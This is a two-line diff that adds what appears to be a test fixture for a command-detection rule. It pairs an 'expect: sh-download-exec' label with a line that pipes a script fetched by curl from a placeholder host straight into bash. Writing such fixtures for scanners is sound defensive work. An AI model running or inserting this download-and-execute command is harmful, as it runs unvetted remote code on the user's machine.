@@ -1,0 +1,2 @@
+# expect: sh-download-exec
+bash <(curl -s https://x.example/a.sh)
